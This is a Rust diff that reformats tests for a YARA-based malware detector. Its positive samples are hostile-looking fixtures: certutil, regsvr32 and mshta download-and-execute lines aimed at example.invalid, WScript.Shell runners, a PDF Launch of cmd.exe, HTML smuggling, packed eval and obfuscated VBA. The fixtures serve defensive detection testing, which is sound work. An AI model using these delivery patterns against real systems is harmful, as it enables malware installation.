@@ -11,12 +11,21 @@ fn matches(data: &[u8]) -> Vec<String> {
     let engine = Engine::builtin();
     let mut scanner = yara_x::Scanner::new(engine.yara_rules());
     let results = scanner.scan(data).unwrap();
-    results.matching_rules().map(|r| r.identifier().to_string()).collect()
+    results
+        .matching_rules()
+        .map(|r| r.identifier().to_string())
+        .collect()
 }
 
 fn check(rule: &str, positive: &[u8], negative: &[u8]) {
-    assert!(matches(positive).iter().any(|r| r == rule), "{rule} misses its positive sample");
-    assert!(!matches(negative).iter().any(|r| r == rule), "{rule} fires on its negative sample");
+    assert!(
+        matches(positive).iter().any(|r| r == rule),
+        "{rule} misses its positive sample"
+    );
+    assert!(
+        !matches(negative).iter().any(|r| r == rule),
+        "{rule} fires on its negative sample"
+    );
 }
 
 #[test]
@@ -28,8 +37,21 @@ fn eicar() {
 
 #[test]
 fn office_macro_autoexec() {
-    let innocent = ole(None, &[("/VBA/_VBA_PROJECT", b"_VBA_PROJECT"), ("/VBA/Module1", b"Attribute VB_Name = \"Module1\"\r\nSub Total()\r\nEnd Sub")]);
-    check("Office_Macro_AutoExec_Shell", &ole_doc_with_macros(), &innocent);
+    let innocent = ole(
+        None,
+        &[
+            ("/VBA/_VBA_PROJECT", b"_VBA_PROJECT"),
+            (
+                "/VBA/Module1",
+                b"Attribute VB_Name = \"Module1\"\r\nSub Total()\r\nEnd Sub",
+            ),
+        ],
+    );
+    check(
+        "Office_Macro_AutoExec_Shell",
+        &ole_doc_with_macros(),
+        &innocent,
+    );
 }
 
 #[test]
@@ -38,7 +60,11 @@ fn pe_in_document() {
     doc.extend_from_slice(&[0u8; 300]);
     doc.extend_from_slice(&pe());
     check("PE_Embedded_In_Document", &doc, &pe());
-    check("PE_Embedded_In_Document", &doc, b"%PDF-1.7 This program cannot be run in DOS mode, says the manual");
+    check(
+        "PE_Embedded_In_Document",
+        &doc,
+        b"%PDF-1.7 This program cannot be run in DOS mode, says the manual",
+    );
 }
 
 #[test]
@@ -47,28 +73,50 @@ fn html_smuggling() {
     let page = b"<script>var img = atob(logo); document.title = 'Bonjour';</script>";
     check("HTML_Smuggling_Blob_Download", smuggler, page);
     let ie = b"<script>var d = atob(p); navigator.msSaveOrOpenBlob(new Blob([d]), 'facture.zip');</script>";
-    check("HTML_Smuggling_Blob_Download", ie, b"<script>navigator.msSaveOrOpenBlob(report, 'rapport.csv');</script>");
+    check(
+        "HTML_Smuggling_Blob_Download",
+        ie,
+        b"<script>navigator.msSaveOrOpenBlob(report, 'rapport.csv');</script>",
+    );
 }
 
 #[test]
 fn pdf_active() {
-    let js = pdf("/OpenAction 5 0 R", &["5 0 obj << /S /JavaScript /JS (x) >> endobj\n".into()]);
+    let js = pdf(
+        "/OpenAction 5 0 R",
+        &["5 0 obj << /S /JavaScript /JS (x) >> endobj\n".into()],
+    );
     check("PDF_OpenAction_JavaScript", &js, &pdf("", &[]));
-    let launch = pdf("/OpenAction 5 0 R", &["5 0 obj << /S /Launch /Win << /F (cmd.exe) >> >> endobj\n".into()]);
+    let launch = pdf(
+        "/OpenAction 5 0 R",
+        &["5 0 obj << /S /Launch /Win << /F (cmd.exe) >> >> endobj\n".into()],
+    );
     check("PDF_Launch_Action", &launch, &js);
 }
 
 #[test]
 fn lnk_interpreter() {
-    check("LNK_Runs_Interpreter", &lnk("C:\\Windows\\System32\\cmd.exe /c calc"), &lnk("C:\\Users\\agent\\Documents\\rapport.docx"));
+    check(
+        "LNK_Runs_Interpreter",
+        &lnk("C:\\Windows\\System32\\cmd.exe /c calc"),
+        &lnk("C:\\Users\\agent\\Documents\\rapport.docx"),
+    );
 }
 
 #[test]
 fn wsh_downloader() {
     let vbs = b"Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"";
-    check("WSH_Downloader_Or_Runner", vbs, b"' WScript.Shell is documented here");
+    check(
+        "WSH_Downloader_Or_Runner",
+        vbs,
+        b"' WScript.Shell is documented here",
+    );
     // Office VBA is the macro rule's business.
-    assert!(!matches(&ole_doc_with_macros()).iter().any(|r| r == "WSH_Downloader_Or_Runner"));
+    assert!(
+        !matches(&ole_doc_with_macros())
+            .iter()
+            .any(|r| r == "WSH_Downloader_Or_Runner")
+    );
 }
 
 #[test]
@@ -121,19 +169,41 @@ fn powershell() {
 
 #[test]
 fn lolbins() {
-    check("LOLBin_Download_Or_Execute", b"certutil -urlcache -split -f http://example.invalid/a.exe a.exe", b"certutil -hashfile rapport.pdf SHA256");
-    check("LOLBin_Download_Or_Execute", b"regsvr32 /s /n /u /i:http://example.invalid/a.sct scrobj.dll", b"regsvr32 /s monpilote.dll");
-    check("LOLBin_Download_Or_Execute", b"mshta https://example.invalid/a.hta", b"mshta is a Windows program");
+    check(
+        "LOLBin_Download_Or_Execute",
+        b"certutil -urlcache -split -f http://example.invalid/a.exe a.exe",
+        b"certutil -hashfile rapport.pdf SHA256",
+    );
+    check(
+        "LOLBin_Download_Or_Execute",
+        b"regsvr32 /s /n /u /i:http://example.invalid/a.sct scrobj.dll",
+        b"regsvr32 /s monpilote.dll",
+    );
+    check(
+        "LOLBin_Download_Or_Execute",
+        b"mshta https://example.invalid/a.hta",
+        b"mshta is a Windows program",
+    );
 }
 
 #[test]
 fn javascript() {
     check("JS_Packed_Eval", b"eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0',1,1,'x'.split('|'),0,{}))", b"function sum(a, b) { return a + b; }");
-    check("JScript_ActiveX_Shell", b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc');", b"var x = new XMLHttpRequest();");
-    let hex: String = (0..80).map(|i| format!("\\x{:02x}", 0x41 + i % 26)).collect();
+    check(
+        "JScript_ActiveX_Shell",
+        b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc');",
+        b"var x = new XMLHttpRequest();",
+    );
+    let hex: String = (0..80)
+        .map(|i| format!("\\x{:02x}", 0x41 + i % 26))
+        .collect();
     let positive = format!("var p = \"{hex}\"; eval(p);");
     let negative = format!("var p = \"{hex}\"; console.log(p.length);");
-    check("JS_Hex_Escaped_Eval", positive.as_bytes(), negative.as_bytes());
+    check(
+        "JS_Hex_Escaped_Eval",
+        positive.as_bytes(),
+        negative.as_bytes(),
+    );
 }
 
 #[test]
@@ -144,16 +214,31 @@ fn onenote_and_svg() {
     one.extend_from_slice(b"@echo off\r\nstart calc\r\n");
     check("OneNote_Embedded_Script_Or_Program", &one, &clean);
     let payload = "A".repeat(500);
-    let svg = format!("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>var d = atob('{payload}');</script></svg>");
-    let plain = format!("<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"data:image/png;base64,{payload}\"/></svg>");
-    check("SVG_Base64_Payload_Script", svg.as_bytes(), plain.as_bytes());
+    let svg = format!(
+        "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>var d = atob('{payload}');</script></svg>"
+    );
+    let plain = format!(
+        "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"data:image/png;base64,{payload}\"/></svg>"
+    );
+    check(
+        "SVG_Base64_Payload_Script",
+        svg.as_bytes(),
+        plain.as_bytes(),
+    );
 }
 
 #[test]
 fn hta_and_vba() {
-    check("HTA_Script_Shell", b"<HTA:APPLICATION/><script>new ActiveXObject('WScript.Shell')</script>", b"<HTA:APPLICATION/><body>Bonjour</body>");
+    check(
+        "HTA_Script_Shell",
+        b"<HTA:APPLICATION/><script>new ActiveXObject('WScript.Shell')</script>",
+        b"<HTA:APPLICATION/><body>Bonjour</body>",
+    );
     let chrs: String = (0..10).map(|i| format!("Chr({}) & ", 99 + i)).collect();
     let obf = format!("Sub AutoOpen()\r\nx = {chrs}\"\"\r\nShell x\r\nEnd Sub");
-    check("VBA_String_Obfuscation", obf.as_bytes(), b"Sub Total()\r\nx = Chr(65) & \"B\"\r\nEnd Sub");
+    check(
+        "VBA_String_Obfuscation",
+        obf.as_bytes(),
+        b"Sub Total()\r\nx = Chr(65) & \"B\"\r\nEnd Sub",
+    );
 }
-
